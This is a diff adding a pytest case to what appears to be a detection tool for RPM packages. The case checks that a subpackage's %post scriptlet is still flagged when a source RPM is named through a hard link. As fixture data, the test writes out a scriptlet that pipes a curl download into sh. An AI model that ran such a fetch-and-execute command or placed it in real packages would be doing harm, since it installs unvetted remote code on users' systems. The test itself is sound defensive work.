@@ -356,3 +356,30 @@ def test_a_binary_given_of_another_architecture_leaves_the_rebuild_on_this_one_r
         assert code == 1 and rows(document)["arc-1-1.x86_64"] == "origin", given
     # On aarch64 neither the rebuild nor the binary given curls anything.
     assert scan([str(srpm), str(rpm), "--arch", "aarch64", "--strict"], capsys)[0] == 0
+
+
+def test_a_source_rpm_named_through_a_hard_link_is_rebuilt_whatever_the_order(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A file named and met walking a directory is read once, as the first input that reached
+    it; named through a hard link after the tree holding it and its main binary, it was read as
+    the tree's, not rebuilt, and rel-tools' %post was neither read nor said unseen: exit 0,
+    --strict too, where the other order blocked."""
+    text = (
+        PREAMBLE.format(name="rel") + "%description\nd\n%package tools\nSummary: t\n%description tools\nt\n"
+    )
+    spec = tmp_path / "rel.spec"
+    spec.write_text(
+        text + "%post tools\ncurl -fsS https://updates.xensource.com/setup.sh | sh\n%files\n%files tools\n"
+    )
+    srpm, binaries = build_all(spec, tmp_path / "top", {})
+    tree, other = tmp_path / "tree", tmp_path / "other"
+    tree.mkdir()
+    other.mkdir()
+    (main_rpm,) = [path for path in binaries if path.name.startswith("rel-1-1.")]
+    shutil.copy(main_rpm, tree)
+    shutil.copy(srpm, tree)
+    (other / "given.src.rpm").hardlink_to(tree / srpm.name)
+    for given in ([other / "given.src.rpm", tree], [tree, other / "given.src.rpm"]):
+        code, document = scan([*map(str, given), "--strict"], capsys)
+        assert code == 1 and rows(document)["rel-tools-1-1.noarch"] == "origin", given
